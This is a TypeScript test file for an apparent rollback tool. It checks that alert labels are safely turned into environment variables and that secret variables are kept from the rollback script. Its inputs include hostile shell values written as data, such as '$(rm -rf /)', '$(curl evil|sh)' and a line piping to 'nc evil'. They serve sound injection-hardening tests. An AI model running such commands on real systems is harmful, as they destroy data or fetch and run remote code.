import { strict as assert } from 'node:assert';
import { describe, test } from 'node:test';
import {
  buildAlertDocument,
  serializeAlertDocument,
} from '../../src/executors/script/build-alert-document.js';
import { buildScriptEnv, labelEnvName } from '../../src/executors/script/build-script-env.js';
import { scriptBaseEnv } from '../../src/executors/script/script-base-env.js';
import { scriptJob } from '../fixtures/scripts/script-job.js';

describe('labelEnvName', () => {
  const cases: Array<[string, string]> = [
    ['severity', 'ROLLBACK_LABEL_SEVERITY'],
    ['alertname', 'ROLLBACK_LABEL_ALERTNAME'],
    ['helm_release', 'ROLLBACK_LABEL_HELM_RELEASE'],
    ['app.kubernetes.io/name', 'ROLLBACK_LABEL_APP_KUBERNETES_IO_NAME'],
    ['pod-template-hash', 'ROLLBACK_LABEL_POD_TEMPLATE_HASH'],
    ['Mixed9Case', 'ROLLBACK_LABEL_MIXED9CASE'],
    ['$(rm -rf /)', 'ROLLBACK_LABEL___RM__RF___'],
    ['a=b', 'ROLLBACK_LABEL_A_B'],
    ['ünï', 'ROLLBACK_LABEL__N_'],
    ['emoji😀x', 'ROLLBACK_LABEL_EMOJI_X'],
  ];
  for (const [label, expected] of cases) {
    test(`${JSON.stringify(label)} → ${expected}`, () => {
      assert.equal(labelEnvName(label), expected);
      assert.match(labelEnvName(label), /^[A-Z0-9_]+$/);
    });
  }
});

describe('buildScriptEnv', () => {
  const base = { PATH: '/usr/bin:/bin', HOME: '/home/app' };

  test('sets exactly the contract variables, the labels and the base env', () => {
    const job = scriptJob({ fromRevision: 7, toRevision: 6 });
    const { env, dropped } = buildScriptEnv(job, {
      baseEnv: base,
      alertFile: '/tmp/x/alert.json',
      dryRun: false,
    });
    assert.deepEqual(env, {
      PATH: '/usr/bin:/bin',
      HOME: '/home/app',
      ROLLBACK_ALERTNAME: 'CriticalErrorRate',
      ROLLBACK_TRIGGER: 'error_rate_threshold',
      ROLLBACK_CONFIDENCE: 'high',
      ROLLBACK_NAMESPACE: 'prod',
      ROLLBACK_TARGET: 'api',
      ROLLBACK_KIND: 'Deployment',
      ROLLBACK_JOB_ID: 'job-0001',
      ROLLBACK_DRY_RUN: 'false',
      ROLLBACK_ALERT_FILE: '/tmp/x/alert.json',
      ROLLBACK_FROM_REVISION: '7',
      ROLLBACK_TO_REVISION: '6',
      ROLLBACK_LABEL_ALERTNAME: 'CriticalErrorRate',
      ROLLBACK_LABEL_NAMESPACE: 'prod',
      ROLLBACK_LABEL_DEPLOYMENT: 'api',
      ROLLBACK_LABEL_SEVERITY: 'critical',
    });
    assert.deepEqual(dropped, []);
  });

  test('revisions are left out when unknown; dry run is "true"', () => {
    const { env } = buildScriptEnv(scriptJob(), { baseEnv: {}, alertFile: 'f', dryRun: true });
    assert.equal(env.ROLLBACK_DRY_RUN, 'true');
    assert.equal('ROLLBACK_FROM_REVISION' in env, false);
    assert.equal('ROLLBACK_TO_REVISION' in env, false);
  });

  const targets: Array<{
    name: string;
    target?: { kind: 'Deployment' | 'StatefulSet' | 'DaemonSet'; namespace: string; name: string };
    labels: Record<string, string>;
    expected: [kind: string, namespace: string, name: string];
  }> = [
    {
      name: 'job target wins over labels',
      target: { kind: 'StatefulSet', namespace: 'data', name: 'db' },
      labels: { alertname: 'A', namespace: 'prod', deployment: 'api', kind: 'DaemonSet' },
      expected: ['StatefulSet', 'data', 'db'],
    },
    // Labels that did not become a validated target never pose as one (decide leaves the job
    // without a target when they name no valid, allowed workload).
    {
      name: 'unvalidated labels',
      labels: { alertname: 'A', namespace: 'prod', deployment: 'api', service: 'svc' },
      expected: ['', 'prod', ''],
    },
    {
      name: 'hostile labels',
      labels: {
        alertname: 'A',
        namespace: '../../etc',
        deployment: '$(curl evil|sh)',
        kind: 'DaemonSet;id',
      },
      expected: ['', '', ''],
    },
    { name: 'nothing known', labels: { alertname: 'A' }, expected: ['', '', ''] },
    {
      name: 'a namespace label that is no namespace',
      labels: { alertname: 'A', namespace: 'Prod ' },
      expected: ['', '', ''],
    },
  ];
  for (const c of targets) {
    test(`target: ${c.name}`, () => {
      const job = scriptJob(c.target ? { target: c.target } : {}, c.labels);
      const { env } = buildScriptEnv(job, { baseEnv: {}, alertFile: 'f', dryRun: false });
      assert.deepEqual(
        [env.ROLLBACK_KIND, env.ROLLBACK_NAMESPACE, env.ROLLBACK_TARGET],
        c.expected,
      );
    });
  }

  test('label values are passed verbatim, metacharacters and newlines included', () => {
    const hostile = '$(touch /tmp/x) `id` ; rm -rf / | nc evil 9 \n"\'*';
    const { env } = buildScriptEnv(scriptJob({}, { alertname: 'A', command: hostile }), {
      baseEnv: {},
      alertFile: 'f',
      dryRun: false,
    });
    assert.equal(env.ROLLBACK_LABEL_COMMAND, hostile);
  });

  test('labels cannot override contract variables or the base env', () => {
    const { env } = buildScriptEnv(
      scriptJob({}, { alertname: 'A', PATH: '/evil', dry_run: 'x', alert_file: '/etc/passwd' }),
      { baseEnv: { PATH: '/usr/bin' }, alertFile: '/tmp/a.json', dryRun: false },
    );
    assert.equal(env.PATH, '/usr/bin');
    assert.equal(env.ROLLBACK_LABEL_PATH, '/evil');
    assert.equal(env.ROLLBACK_DRY_RUN, 'false');
    assert.equal(env.ROLLBACK_LABEL_DRY_RUN, 'x');
    assert.equal(env.ROLLBACK_ALERT_FILE, '/tmp/a.json');
  });

  test('clashing label names: the first in sorted order wins, the other is reported', () => {
    const { env, dropped } = buildScriptEnv(
      scriptJob({}, { alertname: 'A', 'app.name': 'dotted', 'app-name': 'dashed' }),
      { baseEnv: {}, alertFile: 'f', dryRun: false },
    );
    assert.equal(env.ROLLBACK_LABEL_APP_NAME, 'dashed');
    assert.deepEqual(dropped, [
      { label: 'app.name', reason: 'ROLLBACK_LABEL_APP_NAME is already set from label "app-name"' },
    ]);
  });

  test('a label value with a NUL byte (which execve cannot carry) is left out and reported', () => {
    const { env, dropped } = buildScriptEnv(scriptJob({}, { alertname: 'A', bad: 'a\0b' }), {
      baseEnv: {},
      alertFile: 'f',
      dryRun: false,
    });
    assert.equal('ROLLBACK_LABEL_BAD' in env, false);
    assert.deepEqual(dropped, [{ label: 'bad', reason: 'value contains a NUL byte' }]);
  });
});

describe('scriptBaseEnv', () => {
  const cases: Array<[string, boolean]> = [
    ['PATH', true],
    ['HOME', true],
    ['KUBECONFIG', true],
    ['ROLLBACK_WEBHOOK_SECRET', false],
    ['ROLLBACK_WEBHOOK_SECRET_FILE', false],
    ['ROLLBACK_OPERATOR_SECRET', false],
    ['ROLLBACK_OPERATOR_SECRET_FILE', false],
    ['SLACK_WEBHOOK_URL', false],
    ['SLACK_WEBHOOK_URL_FILE', false],
    ['slack_webhook_url', false],
    ['ROLLBACK_LABEL_SEVERITY', false],
    ['ROLLBACK_DRY_RUN', false],
    ['ROLLBACK_CONFIG', false],
  ];
  for (const [name, kept] of cases) {
    test(`${name} is ${kept ? 'kept' : 'removed'}`, () => {
      const out = scriptBaseEnv({ [name]: 'value', OTHER: 'x' });
      assert.equal(name in out, kept);
      assert.equal(out.OTHER, 'x');
    });
  }

  test('undefined values are dropped', () => {
    assert.deepEqual(scriptBaseEnv({ A: undefined, B: 'b' }), { B: 'b' });
  });
});

describe('alert document', () => {
  test('holds the alert, the job id, trigger, confidence, target and known revisions', () => {
    const job = scriptJob({ toRevision: 6 });
    assert.deepEqual(buildAlertDocument(job, false), {
      version: 1,
      jobId: 'job-0001',
      trigger: 'error_rate_threshold',
      confidence: 'high',
      dryRun: false,
      target: { kind: 'Deployment', namespace: 'prod', name: 'api' },
      toRevision: 6,
      alert: {
        alertname: 'CriticalErrorRate',
        fingerprint: '0a1b2c3d4e5f6789',
        startsAt: '2025-03-01T10:00:00.000Z',
        labels: job.alert.labels,
        annotations: job.alert.annotations,
        generatorURL: 'http://prometheus.example/graph?g0.expr=x',
        externalURL: 'http://alertmanager.example',
      },
    });
  });

  test('is serialized with two-space indentation, one key per line (the shell-readable layout)', () => {
    const text = serializeAlertDocument(buildAlertDocument(scriptJob(), true));
    const lines = text.split('\n');
    assert.equal(lines[0], '{');
    assert.ok(lines.includes('  "jobId": "job-0001",'));
    assert.ok(lines.includes('    "labels": {'));
    assert.ok(lines.includes('      "severity": "critical"'));
    assert.ok(lines.includes('      "summary": "Error rate above 5%",'));
    assert.ok(text.endsWith('}\n'));
    assert.deepEqual(JSON.parse(text), buildAlertDocument(scriptJob(), true));
  });
});
